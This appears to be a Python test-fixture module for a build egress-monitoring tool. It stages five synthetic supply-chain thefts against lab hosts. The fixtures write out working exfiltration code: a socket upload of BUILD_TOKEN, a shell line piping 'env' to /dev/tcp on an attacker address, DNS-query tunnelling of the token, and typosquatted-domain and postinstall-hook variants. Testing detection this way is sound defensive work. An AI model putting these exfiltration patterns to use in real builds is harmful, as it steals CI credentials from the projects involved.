"""Attacks on builds as they happened, with synthetic hosts: what the build is, and what steals in it."""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from tests.launch import PYTHON_NAME

from .arrivals import UDP
from .lab import PORT, V4, V6, Network
from .policy_runs import bracketed

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from .arrivals import Arrivals
    from .tracing import Span

BOTH = (V4, V6)
TOKEN = "hunter2-of-the-build"  # noqa: S105 - nobody's
BUILD = "build-4711"
REGISTRY, FORGE = "registry.example", "git.example"
RECORDS = [
    f"{name} {'AAAA' if ':' in address else 'A'} {address}"
    for network in BOTH
    for name, address in (
        (REGISTRY, network.peer),
        (FORGE, network.evil),
        ("telemetry-collect.example", network.evil),
        ("scan.security-vendor.example", network.peer),
        ("scan.securlty-vendor.example", network.evil),
    )
]
LS_REMOTE = f"git ls-remote git://{FORGE}:{PORT}/app"
GET = f"""
import socket, sys
for name in sys.argv[1:]:
    for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
        with socket.create_connection(info[4][:2], 60) as registry:
            registry.sendall(b"GET /package HTTP/1.1\\r\\n\\r\\n")
            registry.recv(9)
"""
UPLOAD = f"""
import os, socket, sys
for name in sys.argv[1:]:
    for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
        try:
            with socket.create_connection(info[4][:2], 60) as thief:
                thief.sendall(b"POST / HTTP/1.1\\r\\n\\r\\n" + os.environb[b"BUILD_TOKEN"])
                thief.recv(9)
        except OSError:
            pass
"""


def posting_the_environment(network: Network) -> str:
    """In a shell."""
    connection = f"/dev/tcp/{network.evil}/{PORT}"
    return f"(exec 3<>{connection} && env >&3 && head -c 9 <&3 >/dev/null) 2>/dev/null\n"


EXFILTRATE = """
import os, socket, struct, sys
stolen = os.environb[b"BUILD_TOKEN"].hex().encode()
for server in sys.argv[1:]:
    name = b"".join(bytes([len(part)]) + part for part in (stolen, b"t", b"exfil", b"example", b""))
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1)
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try:
            asking.sendto(message, (server, 53))
        except OSError:
            pass
"""
"""Asks the thief's own server for a TXT record whose name is the secret."""


@dataclass(frozen=True)
class Incident:
    """A build and what stole in it."""

    files: dict[str, str]
    """Of its workspace, by name; programs."""
    poisoned: str
    """Which of them steals; in the builds before it was a program that does nothing."""
    command: str
    """The build's step."""
    culprit: str
    """How the thief's command line begins."""
    chain: tuple[str, ...]
    """Executables from the job's root to the theft."""
    destination: Callable[[Network], str]
    """As the lines tell it."""
    act: str = "connect"
    """How its spans are called."""
    allow: tuple[object, ...] = ()
    """Rules besides those for the registry and the resolver."""
    honest: tuple[str, ...] = (REGISTRY,)
    """What the job reaches as ever."""
    honest_at_evil: int = 0
    """Its connections to the very address that the theft goes to."""


INCIDENTS = {
    "a postinstall script calls a new domain": Incident(
        files={
            "npm": "import os; os.system('node get.js registry.example; cd pkg && sh -c \"node setup.js\"')",
            "get.js": GET,
            "pkg/setup.js": f"import sys; sys.argv.append('telemetry-collect.example')\n{UPLOAD}",
        },
        poisoned="pkg/setup.js",
        command="node npm install",
        culprit="node setup.js",
        chain=("dash", "node", "dash", "dash", "node"),
        destination=lambda _: f"telemetry-collect.example:{PORT}",
    ),
    "an uploader posts the environment to a bare address": Incident(
        files={"get.py": GET, "uploader": "".join(map(posting_the_environment, BOTH)) + "true\n"},
        poisoned="uploader",
        command="python3 get.py registry.example; bash uploader",
        culprit="bash uploader",
        chain=("dash", "bash", "bash"),
        destination=lambda network: f"{bracketed(network.evil)}:{PORT}",
    ),
    "a worm uploads to the allowed forge without git": Incident(
        files={"get.js": GET, "bundle.js": f"import sys; sys.argv.append('{FORGE}')\n{UPLOAD}"},
        poisoned="bundle.js",
        command=f"node get.js {REGISTRY}; {LS_REMOTE} >/dev/null 2>&1; node bundle.js",
        culprit="node bundle.js",
        chain=("dash", "node"),
        destination=lambda _: f"{FORGE}:{PORT}",
        allow=({"host": FORGE, "ports": [PORT], "lineage": ["git"]},),
        honest=(REGISTRY, FORGE),
        honest_at_evil=1,
    ),
    "a dependency asks the thief's server for TXT records": Incident(
        files={"get.js": GET, "index.js": EXFILTRATE},
        poisoned="index.js",
        command=f"node get.js registry.example; node index.js {V4.evil} {V6.evil}",
        culprit="node index.js",
        chain=("dash", "node"),
        destination=lambda network: f"{bracketed(network.evil)}:53",
        act="send",
    ),
    "an action reports to a look-alike domain": Incident(
        files={
            "get.py": GET,
            "entrypoint.sh": "python3 get.py scan.security-vendor.example\npython3 report.py\n",
            "report.py": f"import sys; sys.argv.append('scan.securlty-vendor.example')\n{UPLOAD}",
        },
        poisoned="report.py",
        command="python3 get.py registry.example; bash entrypoint.sh",
        culprit="python3 report.py",
        chain=("dash", "bash", PYTHON_NAME),
        destination=lambda _: f"scan.securlty-vendor.example:{PORT}",
        allow=(f"*.security-vendor.example:{PORT}",),
        honest=(REGISTRY, "scan.security-vendor.example"),
    ),
}


def workspace(directory: Path, incident: Incident, *, is_poisoned: bool = True) -> str:
    """Write the build's files; returns the PATH with its `node`, which is an interpreter of scripts."""
    for name, text in incident.files.items():
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text if is_poisoned or name != incident.poisoned else "")
    programs = directory / "bin"
    programs.mkdir()
    shutil.copy(Path("/usr/bin/python3").resolve(), programs / "node")
    return f"{programs}:/usr/bin:/bin"


def thefts(egress: Iterable[Span], incident: Incident) -> list[Span]:
    """The acts of the thief among these, by their chain and address."""
    evil = {network.evil for network in BOTH}
    kind = "tcp" if incident.act == "connect" else "udp"
    return [
        span
        for span in egress
        if tuple(span["egress.lineage"]) == incident.chain  # type: ignore[arg-type]
        and span["network.peer.address"] in evil
        and span["network.transport"] == kind
    ]


def connections_at_evil(arrivals: Arrivals) -> int:
    """How many came about, and datagrams with them."""
    evil = {network.evil for network in BOTH}
    datagrams = sum(
        n for packet, n in arrivals.packets.items() if packet.protocol == UDP and packet.to.address in evil
    )
    return datagrams + sum(n for to, n in arrivals.accepted.items() if to.address in evil)
